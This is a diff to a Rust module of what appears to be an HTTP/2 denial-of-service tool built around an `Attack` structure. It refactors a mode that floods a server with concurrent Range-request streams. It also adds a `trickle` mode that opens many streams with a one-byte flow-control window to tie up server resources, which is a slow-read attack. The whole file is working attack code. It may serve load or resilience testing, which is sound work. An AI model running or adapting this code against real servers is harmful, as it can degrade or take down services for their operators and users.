@@ -1,9 +1,11 @@
-//! Pieces over one HTTP/2 connection: so many streams at a time, the next where one has ended.
+//! Over one HTTP/2 connection: pieces, so many streams at a time, the next where one has ended; and streams
+//! that let a byte through at a time.
 
+use std::future::Future;
 use std::sync::Arc;
 
 use bytes::Bytes;
-use h2::client::SendRequest;
+use h2::client::{Builder, Connection, SendRequest};
 use http::header::RANGE;
 use http::{Request, StatusCode};
 use tokio::net::TcpStream;
@@ -22,53 +24,84 @@ pub(super) async fn ask(
 ) -> Result<(), Problem> {
     let (requests, connection) = h2::client::handshake(stream).await?;
     let pieces = Arc::new(Mutex::new(pieces));
-    // Dropped, and ended, with the first that ends.
-    let mut all: JoinSet<Result<(), Problem>> = JoinSet::new();
-    all.spawn(async move { Ok(connection.await?) });
-    for _ in 0..at_a_time {
+    let streams = (0..at_a_time).map(|_| {
         let (attack, pieces) = (Arc::clone(&attack), Arc::clone(&pieces));
         let requests = requests.clone();
-        all.spawn(async move { one_after_another(&attack, requests, &pieces).await });
-    }
+        async move {
+            loop {
+                let range = pieces.lock().await.next_range();
+                one(&attack, requests.clone(), Some(&range)).await?;
+            }
+        }
+    });
+    until_one_ends(connection, streams).await
+}
+
+/// Asks over `stream` for the whole file, so many times at once, with windows of one byte.
+pub(super) async fn trickle(
+    attack: Arc<Attack>,
+    stream: TcpStream,
+    at_a_time: u32,
+) -> Result<(), Problem> {
+    let handshake = Builder::new()
+        .initial_window_size(1)
+        .handshake::<_, Bytes>(stream);
+    let (requests, connection) = handshake.await?;
+    let streams = (0..at_a_time).map(|_| {
+        let (attack, requests) = (Arc::clone(&attack), requests.clone());
+        async move { one(&attack, requests, None).await }
+    });
+    until_one_ends(connection, streams).await
+}
+
+/// Drives a connection and its streams until the first of them ends, and drops the others.
+async fn until_one_ends(
+    connection: Connection<TcpStream, Bytes>,
+    streams: impl Iterator<Item = impl Future<Output = Result<(), Problem>> + Send + 'static>,
+) -> Result<(), Problem> {
+    let mut all: JoinSet<Result<(), Problem>> = JoinSet::new();
+    all.spawn(async move { Ok(connection.await?) });
+    streams.for_each(|stream| drop(all.spawn(stream)));
     match all.join_next().await {
         Some(ended) => ended?,
         None => Ok(()),
     }
 }
 
-/// One stream's place.
-async fn one_after_another(
+/// One response, read as it comes.
+async fn one(
     attack: &Attack,
-    mut requests: SendRequest<Bytes>,
-    pieces: &Mutex<Pieces>,
+    requests: SendRequest<Bytes>,
+    range: Option<&str>,
 ) -> Result<(), Problem> {
     let uri = format!("http://{}{}", attack.config.server, attack.config.path);
-    loop {
-        let range = pieces.lock().await.next_range();
-        requests = requests.ready().await?;
-        let request = Request::get(&uri).header(RANGE, range).body(())?;
-        let (response, _) = requests.send_request(request, true)?;
-        let response = response.await?;
-        let counts = matches!(
-            response.status(),
-            StatusCode::OK | StatusCode::PARTIAL_CONTENT
-        );
+    let mut requests = requests.ready().await?;
+    let mut request = Request::get(&uri);
+    if let Some(range) = range {
+        request = request.header(RANGE, range);
+    }
+    let (response, _) = requests.send_request(request.body(())?, true)?;
+    let response = response.await?;
+    let counts = matches!(
+        response.status(),
+        StatusCode::OK | StatusCode::PARTIAL_CONTENT
+    );
+    attack.totals.add(Counted {
+        refused: u64::from(!counts),
+        ..Counted::default()
+    });
+    let mut body = response.into_body();
+    while let Some(data) = body.data().await {
+        let length = data?.len();
+        body.flow_control().release_capacity(length)?;
         attack.totals.add(Counted {
-            refused: u64::from(!counts),
-            ..Counted::default()
-        });
-        let mut body = response.into_body();
-        while let Some(data) = body.data().await {
-            let length = data?.len();
-            body.flow_control().release_capacity(length)?;
-            attack.totals.add(Counted {
-                body_bytes: if counts { length as u64 } else { 0 },
-                ..Counted::default()
-            });
-        }
-        attack.totals.add(Counted {
-            answered: 1,
+            body_bytes: if counts { length as u64 } else { 0 },
             ..Counted::default()
         });
     }
+    attack.totals.add(Counted {
+        answered: 1,
+        ..Counted::default()
+    });
+    Ok(())
 }
